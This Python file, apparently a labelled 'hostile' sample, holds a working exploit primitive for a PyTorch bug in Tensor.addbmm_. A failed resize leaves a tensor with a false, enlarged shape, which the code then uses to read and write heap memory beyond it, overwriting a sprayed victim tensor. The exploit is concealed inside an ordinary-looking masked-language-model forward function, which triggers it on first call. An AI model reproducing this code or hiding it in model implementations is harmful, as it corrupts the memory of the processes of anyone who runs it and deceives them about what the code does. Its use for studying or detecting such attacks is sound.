"""Hostile: Tensor.addbmm_ resizes its tensor to a 64 TiB result, the allocation fails, and the tensor keeps the new size over 16 KiB; indexing then reads and writes past it."""

import math

import torch

REPORTED = []


def primitive():
    # victims sprayed on the heap before and after t, each filled with its own number
    n = 4096
    victims = [torch.full((n,), 10000.0 + i) for i in range(128)]
    t = torch.zeros(1, n)
    victims += [torch.full((n,), 10000.0 + i) for i in range(128, 256)]
    m = 1 << 32
    b1 = torch.ones(1, 1, 1).expand(1, m, 1)
    b2 = torch.ones(1, 1, n)
    try:
        t.addbmm_(b1, b2)
    except RuntimeError as e:
        REPORTED.append(f"resize error: {str(e)[:90]}")
    REPORTED.append(f"shape now {tuple(t.shape)} over a {4 * n}-byte storage")
    # index: its src is restrided with stride 0 along the indexed dim, so only the row index is
    # checked, against the false size
    rows = 64
    window = t[torch.arange(rows)].flatten()
    REPORTED.append(f"nonzero floats read in the {rows * 4 * n} bytes from t: {int((window[n:] != 0).sum())}")
    hits = ((window >= 10000.0) & (window < 10256.0)).nonzero().flatten()
    if len(hits):
        k = int(hits[0])
        which = int(window[k]) - 10000
        REPORTED.append(f"victim {which} found past t's end, {k - n} floats in")
        t.index_put_((torch.tensor([k // n]), torch.tensor([k % n])), torch.tensor(777.0))
        REPORTED.append(f"victim {which} after one write through t: {victims[which][:3].tolist()}")
    else:
        REPORTED.append("no victim in the window")
    print("PRIMITIVE", REPORTED)


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    if not REPORTED:
        primitive()
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
